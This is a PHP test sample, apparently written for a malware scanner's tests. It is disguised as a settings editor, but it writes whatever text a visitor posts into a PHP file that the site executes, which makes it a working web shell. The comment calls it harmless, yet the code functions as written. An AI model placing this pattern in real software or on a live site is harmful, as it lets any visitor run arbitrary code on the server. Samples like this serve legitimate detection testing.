<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Shaped like a settings editor, but the file it rewrites with the posted text is a PHP
// file: the visitor writes code the site then runs.
$file = __DIR__ . '/settings.php';
if (isset($_POST['robots'])) {
    file_put_contents($file, $_POST['robots']);
}
?>
<form method="post" action="">
  <textarea name="robots"><?php echo htmlspecialchars(file_get_contents($file)); ?></textarea>
  <input type="submit" value="Save">
</form>
